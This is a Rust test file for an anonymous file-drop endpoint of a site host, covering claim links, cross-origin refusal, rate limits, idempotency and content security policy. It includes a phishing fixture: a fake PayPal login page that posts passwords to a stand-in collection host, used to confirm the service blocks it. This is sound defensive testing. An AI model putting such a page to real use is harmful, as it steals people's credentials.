//! `POST /drop`: files that visitors drop on the front page, without an account.

use crate::harness::{Answer, Form, Node, Setup, on_each_database, page};
use serde_json::{Value, json};

const CLIENT: &str = "203.0.113.7";

/// As the script of the front page sends it.
async fn by_script(node: &Node, form: Form) -> Answer {
    let ask = node.post("/drop").header("origin", &node.base_url()).header("accept", "application/json");
    ask.from(CLIENT).form(form).send().await
}

/// As the form sends it without a script.
async fn by_form(node: &Node, form: Form) -> Answer {
    node.post("/drop").browser().header("origin", &node.base_url()).from(CLIENT).form(form).send().await
}

fn harvest() -> &'static str {
    "<!doctype html><title>PayPal: confirm your account</title><h1>Your PayPal account is limited</h1>\n\
     <form method=post action=https://collect.invalid/take><input name=email>\
     <input type=password name=password placeholder='PayPal password'><button>Log in</button></form>"
}

#[tokio::test]
async fn a_dropped_file_becomes_an_unowned_page_with_a_claim_link() {
    on_each_database(Setup::new, async |node| {
        let site = by_script(node, Form::file("a.html", page("Dropped"))).await.expect(201).json();
        assert_eq!(site["title"], "Dropped");
        assert_eq!(site["expires_at"].as_i64(), site["created_at"].as_i64().map(|at| at + 86_400));
        let id = site["id"].as_str().unwrap();
        let claim = format!("{}/claim/{id}#{}", node.base_url(), site["claim_token"].as_str().unwrap());
        assert_eq!(site["claim_url"], json!(claim));
        node.get(site["url"].as_str().unwrap()).send().await.expect(200);

        let shown = by_form(node, Form::file("b.html", page("By form"))).await.expect(201);
        assert!(shown.header("content-security-policy").contains("script-src 'self'"));
        assert_eq!(shown.header("cache-control"), "no-store");
        let text = shown.text();
        assert!(
            text.contains("By form") && text.contains("/claim/site_") && text.contains("#clm_"),
            "{text}"
        );
        assert_eq!(node.count("SELECT COUNT(*) FROM sites WHERE account_id IS NULL").await, 2);
    })
    .await;
}

#[tokio::test]
async fn a_session_is_not_used_and_cannot_be() {
    let node = Node::start().await;
    let person = node.operator().await;
    let ask = person.script("/drop").header("origin", &node.base_url()).header("accept", "application/json");
    let site: Value = ask.form(Form::file("a.html", page("x"))).send().await.expect(201).json();
    assert!(site["claim_token"].is_string(), "{site}");
    node.get(&format!("/sites/{}", site["id"].as_str().unwrap())).key(&node.key).send().await.expect(404);
    for origin in [None, Some("null"), Some("https://evil.example")] {
        let ask = person.script("/drop").header("accept", "application/json");
        let ask = origin.into_iter().fold(ask, |ask, origin| ask.header("origin", origin));
        ask.form(Form::file("a.html", page("x"))).send().await.refused(403, "cross_site");
    }
    assert_eq!(node.count("SELECT COUNT(*) FROM sites").await, 1);
}

#[tokio::test]
async fn the_quota_is_the_one_of_the_api() {
    let setup = Setup::new().with_rates().set("trusted_proxies", "127.0.0.1,::1");
    let node = setup.set("limits.anonymous_per_hour", "2").start().await;
    node.post("/sites").from(CLIENT).form(Form::file("a.html", page("x"))).send().await.expect(201);
    let second = by_script(&node, Form::file("a.html", page("y"))).await.expect(201);
    assert!(second.header("ratelimit").contains("r=0"), "{}", second.header("ratelimit"));
    let refused = by_script(&node, Form::file("a.html", page("z"))).await.refused(429, "rate_limited");
    assert!(refused.has("retry-after"));
    let said = refused.json()["error_description"].as_str().unwrap().to_owned();
    assert!(said.contains("Try again in ") && said.contains("sign in"), "{said}");
    let shown = by_form(&node, Form::file("a.html", page("z"))).await.expect(429);
    assert!(shown.has("retry-after") && shown.text().contains("Try again in "));
    node.post("/sites").from(CLIENT).form(Form::file("a.html", page("z"))).send().await.expect(429);
    let other = node.post("/drop").header("origin", &node.base_url()).header("accept", "application/json");
    other.from("198.51.100.1").form(Form::file("a.html", page("z"))).send().await.expect(201);
}

#[tokio::test]
async fn a_repeated_request_with_its_key_publishes_nothing_twice() {
    let node = Setup::new().with_rates().set("limits.anonymous_per_hour", "1").start().await;
    let send = async || {
        let ask = node.post("/drop").header("origin", &node.base_url()).header("accept", "application/json");
        let ask = ask.header("idempotency-key", "0123456789abcdef").from(CLIENT);
        ask.form(Form::file("a.html", page("x"))).send().await.expect(201).json()
    };
    assert_eq!(send().await, send().await);
    assert_eq!(node.count("SELECT COUNT(*) FROM sites").await, 1);
}

#[tokio::test]
async fn refusals_have_their_reasons_and_the_way_to_a_review() {
    let node = Setup::new().set("limits.upload_bytes", "5000").start().await;
    let refused = by_script(&node, Form::file("a.html", harvest())).await.refused(422, "phishing_blocked");
    let json = refused.json();
    assert!(json["reasons"].as_array().unwrap().len() > 1, "{json}");
    assert!(json["appeal_page"].as_str().unwrap().starts_with("/login?next="), "{json}");
    let text = by_form(&node, Form::file("a.html", harvest())).await.expect(422).text();
    assert!(text.contains("<ol class=\"reasons\">") && text.contains("action=\"/drop\""), "{text}");
    for (form, status, words) in [
        (Form::file("a.exe", [0; 20]), 400, "Not published"),
        (Form::file("a.html", "x".repeat(6000)), 413, "Not published"),
        (Form::file("a.html", ""), 400, "empty"),
        (Form::new(), 400, "Choose a file first."),
        (Form::file("a.html", page("x")).field("slug", "mine"), 401, "Not published"),
    ] {
        let answer = by_form(&node, form).await;
        assert_eq!(answer.status, status, "{}", answer.text());
        assert!(answer.text().contains(words), "{words}: {}", answer.text());
    }
    assert_eq!(node.count("SELECT COUNT(*) FROM sites").await, 0);
    let back = node.get("/drop").browser().send().await.expect(303);
    assert_eq!(back.header("location"), "/#drop");
}

#[tokio::test]
async fn where_anonymous_pages_are_off_there_is_no_zone_and_no_upload() {
    for setting in [
        "limits.anonymous_per_hour",
        "limits.anonymous_per_day",
        "limits.anonymous_attempts_per_minute",
        "limits.anonymous_bytes",
        "limits.anonymous_network_bytes",
    ] {
        let node = Setup::new().set(setting, "0").start().await;
        let text = node.get("/").browser().send().await.expect(200).text();
        assert!(!text.contains("/drop") && !text.contains("data-kept-pages"), "{setting}");
        by_script(&node, Form::file("a.html", page("x"))).await.refused(401, "auth required");
        assert!(
            by_form(&node, Form::file("a.html", page("x"))).await.expect(401).text().contains("turned off")
        );
        assert_eq!(node.count("SELECT COUNT(*) FROM sites").await, 0);
    }
}

#[tokio::test]
async fn the_front_page_has_a_strict_policy_for_its_one_script() {
    let node = Node::start().await;
    let home = node.get("/").browser().send().await.expect(200);
    let policy = home.header("content-security-policy").to_owned();
    for part in [
        "default-src 'none'",
        "script-src 'self'",
        "connect-src 'self'",
        "form-action 'self'",
        "frame-ancestors 'none'",
    ] {
        assert!(policy.contains(part), "{part}: {policy}");
    }
    assert!(!policy.contains("unsafe"), "{policy}");
    let text = home.text();
    let script = text.split("<script src=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    assert_eq!(text.matches("<script").count(), 1);
    node.get(&script).send().await.expect(200);
}
